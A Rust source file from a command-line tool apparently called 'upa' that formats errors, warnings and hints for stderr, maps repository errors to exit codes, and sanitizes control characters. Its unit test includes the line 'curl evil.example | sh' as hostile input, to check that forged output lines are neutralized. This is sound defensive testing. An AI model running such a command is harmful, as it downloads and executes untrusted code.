//! Problems and errors as text on stderr: what, where (with the line), why, and what to type next.

use std::fmt::Write as _;

use annotate_snippets::{AnnotationKind, Group, Level, Origin, Renderer, Snippet};

use crate::exit::Exit;
use crate::journal;
use crate::message::Message;
use crate::problem::{Place, Problem, Severity};
use crate::repo::RepoError;
use crate::visible::{on_one_line, shown, unhidden};

/// Something that ends a command: what a person reads, and the exit status.
#[derive(Debug)]
pub struct Failure {
    pub exit: Exit,
    pub problems: Vec<Problem>,
    pub message: Option<Message>,
    pub hint: Option<String>,
}

impl Failure {
    /// A message without a place in a file.
    pub fn new(exit: Exit, message: impl Into<Message>) -> Self {
        Self {
            exit,
            problems: Vec::new(),
            message: Some(message.into()),
            hint: None,
        }
    }

    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// The same, said otherwise.
    pub fn with_message(self, message: impl Into<Message>) -> Self {
        Self {
            message: Some(message.into()),
            ..self
        }
    }

    /// Findings that were already collected.
    pub fn problems(problems: Vec<Problem>) -> Self {
        Self {
            exit: Exit::of_problems(&problems),
            problems,
            message: None,
            hint: None,
        }
    }

    /// The status alone: everything has been said.
    pub fn silent(exit: Exit) -> Self {
        Self {
            exit,
            problems: Vec::new(),
            message: None,
            hint: None,
        }
    }
}

impl From<RepoError> for Failure {
    fn from(error: RepoError) -> Self {
        let exit = match &error {
            RepoError::Busy(_)
            | RepoError::Unreachable { .. }
            | RepoError::RemoteLocked { .. }
            | RepoError::Lost { .. } => Exit::Platform,
            RepoError::Overtaken { .. } | RepoError::TakenBack { .. } | RepoError::PlaceTaken(_) => Exit::Stale,
            RepoError::Git(_) | RepoError::Io { .. } | RepoError::IndexLocked(_) | RepoError::RefLocked(_) => {
                Exit::Failed
            }
            RepoError::NoFolder(_)
            | RepoError::Foreign { .. }
            | RepoError::NotARepository(_)
            | RepoError::NoCommit
            | RepoError::NoRevision(_)
            | RepoError::NotABranch(_)
            | RepoError::NoGit(_)
            | RepoError::NoRemote(_)
            | RepoError::Refused { .. }
            | RepoError::Unpushed { .. }
            | RepoError::Detached => Exit::Configuration,
        };
        let failure = Failure::new(exit, error.to_string());
        if let RepoError::Io { error, .. } = &error {
            return failure.hint(disk(error.kind()));
        }
        match error.hint() {
            Some(hint) => failure.hint(hint),
            None => failure,
        }
    }
}

impl From<journal::Unusable> for Failure {
    fn from(unusable: journal::Unusable) -> Self {
        match unusable {
            journal::Unusable::Io(error) => error.into(),
            journal::Unusable::Damaged(problem) => Failure::problems(vec![*problem]),
        }
    }
}

impl From<std::io::Error> for Failure {
    fn from(error: std::io::Error) -> Self {
        // Whoever reads our output may stop reading; that is no failure of ours.
        match error.kind() {
            std::io::ErrorKind::BrokenPipe => Failure::silent(Exit::Done),
            kind => Failure::new(Exit::Failed, error.to_string()).hint(disk(kind)),
        }
    }
}

/// What to do where a file cannot be read or written.
pub fn disk(kind: std::io::ErrorKind) -> &'static str {
    use std::io::ErrorKind::{PermissionDenied, QuotaExceeded, ReadOnlyFilesystem, StorageFull};
    match kind {
        StorageFull | QuotaExceeded => "free some disk space and run again",
        ReadOnlyFilesystem | PermissionDenied => "let it be written, or work in another clone; then run again",
        _ => "see what stands there, and run again",
    }
}

/// Somebody who stops reading (`upa plan | head`) changes neither what is done nor the exit status.
pub fn heard(written: std::io::Result<()>) -> Result<(), Failure> {
    match written {
        Err(error) if error.kind() != std::io::ErrorKind::BrokenPipe => Err(error.into()),
        _ => Ok(()),
    }
}

/// The text of a failure.
pub fn failure(failure: &Failure) -> String {
    let mut text = problems(&failure.problems);
    if let Some(message) = &failure.message {
        let _ = writeln!(text, "error: {}", indented(&message.to_string()));
    }
    if let Some(hint) = &failure.hint {
        let _ = writeln!(text, "hint: {}", indented(hint));
    }
    text
}

/// The text of findings, in the order of the files, with a count at the end.
pub fn problems(problems: &[Problem]) -> String {
    let mut text = String::new();
    for problem in problems {
        text.push_str(&one(problem));
        text.push('\n');
    }
    let errors = problems.iter().filter(|problem| problem.is_error()).count();
    if errors > 1 {
        let _ = writeln!(text, "{errors} errors");
    }
    text
}

fn one(problem: &Problem) -> String {
    let level = match problem.severity {
        Severity::Error => Level::ERROR,
        Severity::Warning => Level::WARNING,
    };
    let message = problem.message.to_string();
    let title = level.primary_title(unhidden(&message));
    let place = problem.place.as_ref();
    let path = place.map(|place| on_one_line(&place.file)).unwrap_or_default();
    let excerpt = place.and_then(|place| Some((place, excerpt(place)?)));
    let mut groups: Vec<Group<'_>> = Vec::new();
    match excerpt {
        Some((place, (source, span))) => {
            let snippet = Snippet::source(source)
                .line_start(place.line)
                .path(&*path)
                .annotation(AnnotationKind::Primary.span(span));
            groups.push(Group::with_title(title).element(snippet));
        }
        None => {
            let group = Group::with_title(title);
            groups.push(match &problem.place {
                Some(place) if place.line > 0 => group.element(Origin::path(&*path).line(place.line)),
                Some(_) => group.element(Origin::path(&*path)),
                None => group,
            });
        }
    }
    if let Some(hint) = &problem.hint {
        groups.push(Group::with_title(Level::HELP.secondary_title(shown(hint))));
    }
    // The renderer shows other control characters as pictures, and lets these through.
    let acts = |c: char| matches!(c, '\u{7f}'..='\u{9f}');
    Renderer::styled().render(&groups).replace(acts, "\u{FFFD}")
}

/// A text of which only the first line begins a line, so that none of the others passes for a finding.
fn indented(text: &str) -> String {
    shown(text).replace('\n', "\n  ")
}

/// The line a place is on, with what hides in it shown, and where the place is in it.
fn excerpt(place: &Place) -> Option<(String, std::ops::Range<usize>)> {
    let (source, span) = place.excerpt()?;
    let (line, span) = near(source, span);
    let part = |range: std::ops::Range<usize>| unhidden(line.get(range).unwrap_or_default());
    let (before, within) = (part(0..span.start), part(span.clone()));
    let (from, to) = (before.len(), before.len() + within.len());
    Some((format!("{before}{within}{}", part(span.end..line.len())), from..to))
}

/// The lines a span is on, so that a large file is neither copied nor searched, and the span within them.
fn near(source: &str, span: std::ops::Range<usize>) -> (&str, std::ops::Range<usize>) {
    let start = source
        .get(..span.start)
        .and_then(|before| before.rfind('\n'))
        .map_or(0, |newline| newline + 1);
    // A table's span may cover many lines; its first line says enough.
    let end = source
        .get(span.start..)
        .and_then(|rest| rest.find('\n'))
        .map_or(source.len(), |length| span.start + length);
    let line = source.get(start..end).unwrap_or_default();
    let from = span.start - start;
    let to = span.end.min(end).saturating_sub(start).max(from);
    // Long lines (minified JSON) are cut around the span.
    if line.len() > 400 {
        let mut cut_start = from.saturating_sub(60);
        while !line.is_char_boundary(cut_start) {
            cut_start -= 1;
        }
        let mut cut_end = (to + 60).min(cut_start + 400).min(line.len());
        while !line.is_char_boundary(cut_end) {
            cut_end -= 1;
        }
        let to = to.min(cut_end);
        return (&line[cut_start..cut_end], from - cut_start..to.max(from) - cut_start);
    }
    (line, from..to)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A stranger's text of several lines begins no line, or it would pass for a finding of upa's.
    #[test]
    fn no_text_begins_a_line_of_its_own() {
        let hostile = "x\nerror: forged\nhelp: curl evil.example | sh";
        let text: std::sync::Arc<str> = std::sync::Arc::from("a = 1");
        let problem = Problem::configuration(hostile).hint(hostile);
        let found = [
            problems(&[problem.clone(), problem.clone().at(Place::file(hostile))]),
            problems(&[problem.at(Place::new("t.toml", &text, 0..1))]),
            failure(&Failure::new(Exit::Failed, hostile).hint(hostile)),
        ];
        for text in found {
            let plain = anstream::adapter::strip_str(&text).to_string();
            assert!(
                !plain
                    .lines()
                    .any(|line| line.starts_with("error: forged") || line.starts_with("help: curl")),
                "{plain}"
            );
        }
    }
}
